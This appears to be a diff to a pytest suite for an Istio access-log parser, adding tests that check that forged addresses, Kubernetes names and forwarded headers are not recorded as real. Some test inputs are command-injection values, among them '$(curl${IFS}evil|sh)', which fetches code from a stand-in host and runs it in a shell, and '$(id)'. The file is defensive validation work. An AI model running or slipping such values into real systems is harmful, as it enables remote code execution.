@@ -96,6 +96,7 @@ def test_json_of_envoy_and_of_ztunnel_says_the_same():
         "upstream_cluster": "inbound-vip|9080|http|details.shop.svc.cluster.local",
         "downstream_local_address": "10.96.154.151:9080",
         "downstream_remote_address": "10.244.128.7:41066",
+        "x_forwarded_for": None,
     }
     assert parsed(json.dumps(envoy)) == parsed(WAYPOINT)
     ztunnel = {
@@ -189,6 +190,65 @@ def test_a_client_cannot_forge_what_a_proxy_records():
     found = parsed(line)
     assert (found.source_ip, found.service) == ("192.0.2.10", ("shop", "account", 9080))
     assert access_log.parse(gateway("x").replace("/shop-account", "/a 200 b")) is None
+
+
+def written_by(client: str) -> str:
+    """Return a waypoint's line of a request with the texts of a client: forwarded, agent, id."""
+    return WAYPOINT.replace('"-" "-" "0fb38c2b-8fb1-452d-8a29-59bbd26c6839"', client)
+
+
+@pytest.mark.parametrize(
+    ("client", "is_forwarded"),
+    [
+        ('"-" "curl/8" "id"', False),
+        ('"10.244.128.8" "curl/8" "id"', True),
+        ('"-" "x, 10.244.128.8" "curl/8" "id"', True),
+        ('"-" "a" b" "id"', True),
+        ('"" "" ""', True),
+    ],
+)
+def test_a_request_counts_as_forwarded_unless_nothing_a_client_writes_could_hide_it(
+    client: str, is_forwarded: bool
+):
+    assert parsed(written_by(client)).is_forwarded is is_forwarded
+
+
+def test_json_says_whether_a_request_was_forwarded():
+    fields = {"start_time": "", "response_code": 403, "downstream_remote_address": "10.0.0.1:1"}
+    assert parsed(json.dumps(fields)).is_forwarded
+    assert parsed(json.dumps({**fields, "x_forwarded_for": "10.0.0.2"})).is_forwarded
+    assert not parsed(json.dumps({**fields, "x_forwarded_for": None})).is_forwarded
+
+
+@pytest.mark.parametrize(
+    "forged", ["0.0.0.0/0,203.0.113.9:1", "$(curl${IFS}evil|sh):1", "fe80::1%$(id)", "999.1.1.1:1"]
+)
+def test_what_is_no_address_is_not_recorded_as_one(forged: str):
+    found = access_log.parse(WAYPOINT.replace("10.244.128.7:41066", forged))
+    assert found is None or not found.source_ip
+    fields = {"start_time": "", "response_code": 403, "downstream_remote_address": forged}
+    assert parsed(json.dumps(fields)).source_ip == ""
+    assert parsed(ZTUNNEL.replace("172.18.0.2:59062", forged)).source_ip == ""
+
+
+@pytest.mark.parametrize("forged", ["x$(id)", "X", "a;b", "..", "-x", ""])
+def test_what_is_no_name_of_kubernetes_is_not_recorded_as_one(forged: str):
+    line = ZTUNNEL.replace("ns/shop/sa/ratings", f"ns/shop/sa/{forged}")
+    assert parsed(line).source_identity == ""
+    assert parsed(ZTUNNEL.replace('"details-0"', f'"{forged}"')).pod is None
+    assert parsed(ZTUNNEL.replace('"details.shop', f'"{forged}.shop')).service is None
+    assert parsed(WAYPOINT.replace("|http|details.shop", f"|http|{forged}.shop")).service is None
+    details = f"rbac_access_denied_matched_policy[ns[shop]-policy[{forged}]-rule[0]]"
+    assert parsed(gateway(details)).refusal == access_log.Refusal(Cause.DENY)
+    if forged:
+        line = ZTUNNEL.format(reason=f"explicitly denied by: shop/{forged}")
+        assert parsed(line).refusal == access_log.Refusal(Cause.DENY)
+
+
+def test_a_line_that_was_cut_is_not_read():
+    for length in range(len(WAYPOINT) - 1, 200, -1):
+        found = access_log.parse(WAYPOINT[:length])
+        assert found is None or found.source_ip == "10.244.128.7", WAYPOINT[:length]
 
 
 @pytest.mark.parametrize(
